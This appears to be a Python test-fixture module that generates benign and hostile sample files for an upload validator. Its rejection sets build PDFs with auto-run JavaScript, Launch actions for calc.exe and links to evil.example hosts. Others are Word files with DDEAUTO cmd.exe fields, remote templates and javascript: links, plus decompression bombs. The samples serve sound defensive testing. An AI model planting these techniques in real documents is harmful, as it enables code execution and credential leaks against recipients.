"""Files as people send them, and as attackers do: made when the tests run, each with its verdict.

Nothing here is a program that does harm: what would act shows a box or names a file that is none.
"""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

EXE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 200
HTML = b"<html><body><script>alert(1)</script></body></html>"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


# === PDF === #

def make_stream(head, data):
    return b"<< %s /Length %d >> stream\n%s\nendstream" % (head, len(data), data)


def make_pdf(*objects, catalog=b"", trailer=b"<< /Root 1 0 R >>", page=b""):
    """A PDF written by hand: catalog, pages, page, then these objects from number 4.

    Its table of objects is left out: readers build it.
    """
    head = [b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page]
    parts = [b"%PDF-1.7"]
    parts += [b"%d 0 obj\n%s\nendobj" % (number, body)
              for number, body in enumerate([*head, *objects], 1)]
    return b"\n".join([*parts, b"trailer\n" + trailer, b"startxref\n0\n%%EOF\n"])


def make_object_stream(*objects, first=50, kind=b"/Type /ObjStm", head=b"/Filter /FlateDecode",
                       pack=zlib.compress):
    """A stream that holds objects, numbered from `first`."""
    offsets, body = [], b""
    for number, item in enumerate(objects, first):
        offsets.append(b"%d %d" % (number, len(body)))
        body += item + b" "
    index = b" ".join(offsets) + b" "
    return make_stream(b"%s /N %d /First %d %s" % (
        kind, len(objects), len(index), head), pack(index + body))


def make_pdf_with_table(streamed, kind=b"/Type /ObjStm"):
    """A PDF whose catalog (1), pages (2) and page (3) stand in a stream of objects that its table
    names, and whose catalog is `streamed`."""
    content, offsets = b"%PDF-1.7\n", {}
    for number, body in (
            (4, make_object_stream(
                streamed, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", first=1, kind=kind)),
            (6, b"/ObjStm")):
        offsets[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(struct.pack(">BIB", *row) for row in (
        (0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, offsets[4], 0), (1, len(content), 0),
        (1, offsets[6], 0)))
    start = len(content)
    content += b"5 0 obj\n%s\nendobj\n" % make_stream(
        b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R", table)
    return content + b"startxref\n%d\n%%%%EOF\n" % start


def edit(change=None, content=None, **options):
    """A PDF as pikepdf writes it, changed before."""
    stream = io.BytesIO()
    with pikepdf.open(io.BytesIO(content or make_report())) as pdf:
        if change:
            change(pdf)
        pdf.save(stream, **options)
    return stream.getvalue()


def make_report(pages=2):
    """As programs for reports write it: text, a link, fonts, an outline."""
    stream = io.BytesIO()
    sheet = canvas.Canvas(stream, pagesize=A4)
    sheet.setTitle("How /JavaScript is written (and /JS)")
    for number in range(pages):
        sheet.bookmarkPage(f"p{number}")
        sheet.addOutlineEntry(f"Page {number}", f"p{number}")
        sheet.drawString(72, 700, f"Payslip of March, page {number}")
        sheet.linkURL("https://example.com/", (72, 690, 300, 710))
        sheet.linkURL("mailto:desk@example.com", (72, 650, 300, 670))
        sheet.showPage()
    sheet.save()
    return stream.getvalue()


def make_scan():
    stream = io.BytesIO()
    pages = [Image.new("L", (1240, 1754), shade) for shade in (240, 250)]
    pages[0].save(stream, "PDF", save_all=True, append_images=pages[1:], resolution=150)
    return stream.getvalue()


def embed(name, content, subtype, relationship="/Alternative"):
    """Embeds a file in a PDF, as invoices do it."""
    def change(pdf):
        file = pikepdf.Stream(pdf, content, Type=pikepdf.Name.EmbeddedFile)
        if subtype:
            file.Subtype = pikepdf.Name(subtype)
        spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=name, UF=name,
                                  EF=pikepdf.Dictionary(F=pdf.make_indirect(file)))
        if relationship:
            spec.AFRelationship = pikepdf.Name(relationship)
        spec = pdf.make_indirect(spec)
        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
            Names=pikepdf.Array([name, spec])))
        pdf.Root.AF = pikepdf.Array([spec])
    return change


INVOICE = (b'<?xml version="1.0" encoding="UTF-8"?><rsm:CrossIndustryInvoice xmlns:rsm='
           b'"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>')


def set_catalog(text):
    def change(pdf):
        for key, value in pikepdf.Object.parse(text).items():
            pdf.Root[key] = value
    return change


def add_annotation(text):
    def change(pdf):
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Object.parse(text))])
    return change


def add_field_script(pdf):
    """A form of a program for offices that computes."""
    set_catalog(b"<< /AcroForm << /Fields [] >> >>")(pdf)
    pdf.Root.AcroForm.Fields = pikepdf.Array([pdf.make_indirect(pikepdf.Object.parse(
        b"<< /FT /Tx /T (sum) /AA << /C << /S /JavaScript /JS (x) >> >> >>"))])


def lock(user, owner="owner", **options):
    return {"encryption": pikepdf.Encryption(user=user, owner=owner, **options)}


# === PICTURES === #

def make_picture(width, height, kind="JPEG", **options):
    stream = io.BytesIO()
    Image.new("RGB", (width, height), "navy").save(stream, kind, **options)
    return stream.getvalue()


def make_png_header(width, height):
    """A PNG that says how large it is, and holds next to nothing."""
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(
            ">I", zlib.crc32(name + data))
    return b"\x89PNG\r\n\x1a\n" + chunk(
        b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) + chunk(
            b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def make_box(kind, *parts):
    body = b"".join(parts)
    return struct.pack(">I", len(body) + 8) + kind + body


def make_heic(width=4032, height=3024, data=b"\0" * 64, handler=b"pict", brand=b"heic"):
    """A photo of a telephone, by its boxes; the pixels are none."""
    size = make_box(b"ispe", bytes(4), struct.pack(">II", width, height))
    return make_box(b"ftyp", brand, bytes(4), b"mif1heic") + make_box(
        b"meta", bytes(4), make_box(b"hdlr", bytes(8), handler, bytes(13)),
        make_box(b"pitm", bytes(4), b"\0\1"), make_box(b"iinf", bytes(6)),
        make_box(b"iloc", bytes(8)), make_box(b"iprp", make_box(b"ipco", size)),
    ) + make_box(b"mdat", data)


HEIC = make_heic()


# === WORD === #

def make_docx(parts=(), types="", links=""):
    """A letter of Word: its parts as Word writes them, and more."""
    stream = io.BytesIO()
    written = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'content-types"><Override PartName="/word/document.xml" ContentType="{MAIN}"/>'
            f"{types}</Types>"),
        "_rels/.rels": (
            f'<Relationships><Relationship Id="1" Type="{RELATION}officeDocument" '
            'Target="word/document.xml"/></Relationships>'),
        "word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>Dear Sir</w:t></w:r></w:p>"
                             "</w:body></w:document>",
        "word/media/image1.png": make_picture(4, 4, "PNG"),
    }
    if links:
        written["word/_rels/document.xml.rels"] = f"<Relationships>{links}</Relationships>"
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**written, **dict(parts)}.items():
            archive.writestr(name, content)
    return stream.getvalue()


def make_link(kind, target, mode="External"):
    return f'<Relationship Id="9" Type="{RELATION}{kind}" Target="{target}" TargetMode="{mode}"/>'


def make_field(*runs, part="word/footnotes.xml", types=""):
    """A document with a field, its instruction spread over these runs."""
    text = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return make_docx({part: (
        f'<w:footnotes {W}><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{text}<w:r>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p></w:footnotes>')}, types)


# === WHAT COSTS === #

def make_names_bomb(repeat=12_000_000):
    """A PDF of some kilobytes whose stream of objects is one long row of names: 36 seconds."""
    return make_pdf_with_table(b"<< /Type /Catalog /Pages 2 0 R /X [" + b"/ab" * repeat + b"] >>")


def make_escapes(size=8_000_000):
    """Nested strings and escapes, by the megabyte."""
    return make_pdf(b"<< /X " + b"(\\(" * (size // 3) + b" >>")


# === VERDICTS === #

def get_good():
    """:return: dict of (MIME type, file) by what it is: files of many origins that are taken"""
    pdf, picture = "application/pdf", "image/jpeg"
    docx = MAIN.removesuffix(".main+xml")
    report = make_report()
    camera = make_picture(640, 480, exif=Image.Exif().tobytes())
    return {
        "report program": (pdf, report),
        "Word, exported: packed objects": (pdf, edit(
            set_catalog(b"<< /Lang (fr-FR) /MarkInfo << /Marked true >> /OpenAction "
                        b"<< /S /GoTo /D [null /Fit] >> >>"),
            object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "scanner": (pdf, make_scan()),
        "LaTeX: first page, links within": (pdf, edit(
            set_catalog(b"<< /PageMode /UseOutlines /OpenAction [0 /Fit] /Names << /Dests << >> "
                        b">> >>"), object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        "Factur-X invoice": (pdf, edit(embed("factur-x.xml", INVOICE, "/text/xml"))),
        "ZUGFeRD invoice": (pdf, edit(embed(
            "zugferd-invoice.xml", INVOICE, "/application/xml", "/Data"))),
        "payslip, locked for editing": (pdf, edit(**lock(""))),
        "payslip, locked for editing, packed objects": (pdf, edit(
            object_stream_mode=pikepdf.ObjectStreamMode.generate, **lock(""))),
        "payslip, locked with RC4": (pdf, edit(**lock("", R=3, aes=False, metadata=False))),
        "web page, printed: linearized": (pdf, edit(linearize=True)),
        "signed: appended revision": (pdf, report + b"\n9 0 obj << /Type /Sig >> endobj\n"
                                      + report[report.rfind(b"startxref"):]),
        "old fax program: no table": (pdf, make_pdf()),
        "byte order mark": (pdf, b"\xef\xbb\xbf" + make_pdf()),
        "form without scripts": (pdf, edit(set_catalog(
            b"<< /AcroForm << /Fields [] /NeedAppearances true >> >>"))),
        "page scanned without loss": (pdf, make_pdf(make_stream(
            b"/Subtype /Image /Width 2480 /Height 3508 /Filter /FlateDecode",
            zlib.compress(bytes(2480 * 3508))))),
        "camera": (picture, camera),
        "telephone: progressive photo": (picture, make_picture(1024, 768, progressive=True)),
        "telephone: more behind the photo": (picture, camera + b"SEFT" + b"\0" * 100),
        "telephone: film behind the photo": (picture, camera + make_box(b"ftyp", b"mp42") * 9),
        "24 megapixels": (picture, make_picture(6000, 4000)),
        "screenshot": ("image/png", make_picture(800, 600, "PNG")),
        "telephone: HEIC": ("image/heic", HEIC),
        "telephone: HEIC with a film behind": ("image/heic", HEIC + make_box(b"mpvd", HTML)),
        "Word": (docx, make_docx(links=make_link("hyperlink", "https://example.com/")
                                 + make_link("hyperlink", "mailto:desk@example.com"))),
        "Word with numbered pages": (docx, make_field(" PA", "GE \\* MERGEFORMAT ")),
        "Word with a link as a field": (docx, make_field(' HYPERLINK "https://a.example/LINK" ')),
    }


def get_bad():
    """:return: dict of (reason, file) by what it is: files that are refused"""
    return {**get_bad_pdfs(), **get_bad_documents(), **get_bad_pictures(), **get_others()}


def get_bad_pdfs():
    act = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    hidden = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + act + b" >>"
    bomb = zlib.compress(bytes(100 * 1024 ** 2))
    return {
        "script on opening": ("active", edit(set_catalog(b"<< /OpenAction " + act + b" >>"))),
        "script, name escaped": ("active", make_pdf(
            b"<< /S /J#61va#53cript /#4a#53 (x) >>", catalog=b"/OpenAction 4 0 R")),
        "script in a stream of objects": ("active", make_pdf_with_table(hidden)),
        "script in one without its type": ("active", make_pdf_with_table(hidden, b"")),
        "script in one with an indirect type": (
            "active", make_pdf_with_table(hidden, b"/Type 6 0 R")),
        "script in one that no table names": ("active", make_pdf(make_object_stream(act))),
        "script where the table does not look": ("active", make_report().replace(
            b"%%EOF", b"") + b"90 0 obj\n" + act + b"\nendobj\n"
            + make_report()[make_report().rfind(b"startxref"):]),
        "script in a name tree": ("active", edit(set_catalog(
            b"<< /Names << /JavaScript << /Names [(a) " + act + b"] >> >> >>"))),
        "script in a form": ("active", edit(add_field_script)),
        "form of XFA": ("active", edit(set_catalog(b"<< /AcroForm << /XFA (x) >> >>"))),
        "program by an indirect name": ("active", make_pdf(
            b"/Launch", b"<< /S 4 0 R /F (calc.exe) >>", catalog=b"/OpenAction 5 0 R")),
        "program on a click": ("active", edit(add_annotation(
            b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"))),
        "other file by a network path": ("active", edit(set_catalog(
            b"<< /OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >> >>"))),
        "embedded target": ("active", edit(set_catalog(
            b"<< /OpenAction << /S /GoToE /D [0 /Fit] >> >>"))),
        "address on opening": ("active", edit(set_catalog(
            b"<< /OpenAction << /S /URI /URI (https://evil.example) >> >>"))),
        "address on opening, in a chain": ("active", edit(set_catalog(
            b"<< /OpenAction << /S /GoTo /D [null /Fit] /Next [ << /S /URI /URI (https://e.e) >> "
            b"] >> >>"))),
        "address on turning a page": ("active", make_pdf(
            page=b"/AA << /O << /S /URI /URI (https://evil.example) >> >>")),
        "link to a file": ("active", edit(add_annotation(
            b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://evil/x) >> >>"))),
        "form that sends": ("active", edit(add_annotation(
            b"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://e.e) >> >>"))),
        "form that loads": ("active", edit(set_catalog(
            b"<< /OpenAction << /S /ImportData /F (x.fdf) >> >>"))),
        "film": ("active", edit(add_annotation(b"<< /Subtype /RichMedia /Rect [0 0 9 9] >>"))),
        "embedded program": ("active", edit(embed("run.exe", EXE, "/text/xml"))),
        "embedded program, no type": ("active", edit(embed("run.exe", EXE, "", ""))),
        "file as a remark": ("active", make_pdf(
            make_stream(b"", EXE), b"<< /Subtype /FileAttachment /FS << /F (evil.exe) "
            b"/EF << /F 4 0 R >> >> >>", page=b"/Annots [5 0 R]")),
        "embedded page that calls itself an invoice": ("active", edit(embed(
            "factur-x.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "/text/xml"))),
        "embedded invoice with entities": ("active", edit(embed(
            "factur-x.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', "/text/xml"))),
        "password": ("protected", edit(**lock("secret"))),
        "cut off": ("damaged", make_report()[:1500]),
        "linearized, cut off": ("damaged", edit(linearize=True)[:-200]),
        "no page": ("damaged", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer "
                    b"<< /Root 1 0 R >>\n%%EOF"),
        "only words": ("damaged", b"%PDF-1.7 words %%EOF"),
        "page behind the end": ("damaged", make_report() + HTML),
        "archive behind the end": ("damaged", make_report() + make_docx()),
        "text bomb": ("bomb", make_pdf(make_stream(b"/Filter /FlateDecode", bomb))),
        "picture bomb": ("bomb", make_pdf(make_stream(
            b"/Subtype /Image /Width 9 /Height 9 /Filter /FlateDecode", bomb))),
        "too many pixels": ("pixels", make_pdf(make_stream(
            b"/Subtype /Image /Width 99999 /Height 99999 /Filter /FlateDecode", b"x"))),
        "35 kB of names": ("damaged", make_names_bomb()),
        "300,000 objects": ("bomb", make_pdf(*[b"<<>>"] * 300_000)),
    }


def get_costly():
    """:return: dict of files that ask for much work; what matters is that they do not get it"""
    return {
        "8 MB of escapes": make_escapes(),
        "nested arrays": make_pdf(b"[" * 100_000),
        "nested arrays, by reference": make_pdf(*[
            b"[ %d 0 R %d 0 R ]" % (number, number) for number in range(5, 5000)],
            catalog=b"/OpenAction 4 0 R"),
        "unpacked again and again": make_pdf(*[make_stream(
            b"/Filter /FlateDecode", zlib.compress(bytes(60 * 1024 ** 2)))] * 60),
        "packed in rare ways": make_pdf(make_stream(
            b"/Filter [/FlateDecode /FlateDecode]",
            zlib.compress(zlib.compress(bytes(400 * 1024 ** 2))))),
        **{f"4 MB of {part!r}": b"%PDF-1.7\n" + part * (4 * 1024 ** 2 // len(part)) + b"%%EOF"
           for part in (b"1 0 obj%", b"1 0 obj\n", b"1 0 obj<<", b"1 0 obj[(", b"<<",
                        b"1 0 obj<</Type/ObjStm/N 9/First 9>>stream\n")},
    }


def get_bad_documents():
    fixed = f'<w:p {W}><w:fldSimple w:instr=" &#68;DE c"/></w:p>'
    return {
        "macros": ("macros", make_docx({"word/vbaProject.bin": b"x"})),
        "macros by type": ("macros", make_docx(types=(
            '<Override PartName="/word/x" ContentType="application/vnd.ms-office.vbaProject"/>'))),
        "embedded object": ("macros", make_docx({"word/embeddings/oleObject1.bin": b"x"})),
        "object by relation": ("macros", make_docx(
            links=make_link("oleObject", "x.dat", "Internal"))),
        "ActiveX": ("macros", make_docx({"word/activeX/activeX1.xml": b"<x/>"})),
        "template from elsewhere": ("macros", make_docx({
            "word/_rels/settings.xml.rels": f"<Relationships>"
            f"{make_link('attachedTemplate', 'http://evil.example/t.dotm')}</Relationships>"})),
        "picture from elsewhere": ("macros", make_docx(
            links=make_link("image", "http://evil.example/p.png"))),
        "DDE in a footnote": ("macros", make_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" ')),
        "DDE spread over runs": ("macros", make_field("DD", "EAU", "TO c")),
        "DDE in a renamed part": ("macros", make_field("DDE c", part="word/renamed.xml")),
        **{f"words under the name of a {kind}": ("macros", make_field(
            "DDE c", part=f"word/document.{kind}", types=(
                f'<Override PartName="/word/document.{kind}" ContentType="{MAIN}"/>')))
           for kind in ("png", "fntdata")},
        "words by the type of all pictures": ("macros", make_field(
            "DDE c", part="word/a.png", types=f'<Default Extension="png" ContentType="{MAIN}"/>')),
        "DDE as an attribute": ("macros", make_docx({"word/header1.xml": fixed})),
        "INCLUDEPICTURE": ("macros", make_field(' INCLUDEPICTURE "http://e.e/x" ')),
        "INCLUDETEXT": ("macros", make_field(' INCLUDETEXT "c:\\\\x" ')),
        "LINK": ("macros", make_field(" LINK Excel.Sheet ")),
        "page as a part": ("macros", make_docx(
            {"word/afchunk.dat": HTML}, links=make_link("aFChunk", "afchunk.dat", "Internal"))),
        "altChunk": ("macros", make_docx({"word/header2.xml": f'<w:altChunk {W}/>'})),
        "Word: link to a file": ("macros", make_docx(
            links=make_link("hyperlink", "file://evil.example/share"))),
        "link with script": ("macros", make_docx(
            links=make_link("hyperlink", "javascript:alert(1)"))),
        "link to a file, as a field": ("macros", make_field(' HYPERLINK "file:///c:/x" ')),
        "entities": ("type", make_docx({
            "word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})),
        "zip bomb": ("bomb", make_docx({"word/a.xml": bytes(210 * 1024 ** 2)})),
        "part bomb": ("bomb", make_docx({"word/a.xml": b" " * (21 * 1024 ** 2)})),
        "too many parts": ("bomb", make_docx({f"word/{n}.xml": b"" for n in range(2001)})),
        "page behind the archive": ("type", make_docx() + HTML),
    }


def make_elements(count=5_000_000):
    return make_docx({"word/a.xml": b"<a>" + b"<b/>" * count})


def get_bad_pictures():
    photo = make_picture(600, 400)
    return {
        "PNG cut off": ("damaged", make_picture(60, 40, "PNG")[:-20]),
        "JPEG cut off": ("damaged", photo[:-2]),
        "PNG of 10,001 pixels each way": ("pixels", make_png_header(10_001, 10_001)),
        "PNG of two thousand million": ("pixels", make_png_header(2 ** 31 - 1, 2 ** 31 - 1)),
        "HEIC that is a page": ("damaged", b"\0\0\0\x18ftypheic" + HTML),
        "HEIC that is a program": ("damaged", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + EXE),
        "HEIC that is a film": ("damaged", make_heic(handler=b"vide")),
        "HEIC cut off": ("damaged", make_heic(data=bytes(5000))[:-100]),
        "HEIC of too many pixels": ("pixels", make_heic(width=60_000, height=60_000)),
        "GIF": ("type", make_picture(8, 8, "GIF")),
        "TIFF": ("type", b"II*\0\x08\0\0\0\0\0" + bytes(40)),
        "SVG with script": ("type", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"),
    }


def get_others():
    return {
        "program": ("type", EXE), "page": ("type", HTML), "shell": ("type", b"#!/bin/sh\n"),
        "page before a PDF": ("type", HTML + make_report()),
        "program before a PDF": ("type", EXE + make_report()),
        "old Word": ("type", b"\xd0\xcf\x11\xe0" + b"\0" * 600),
        "archive": ("type", b"PK\3\4" + b"\0" * 40), "words": ("type", b"words"),
    }
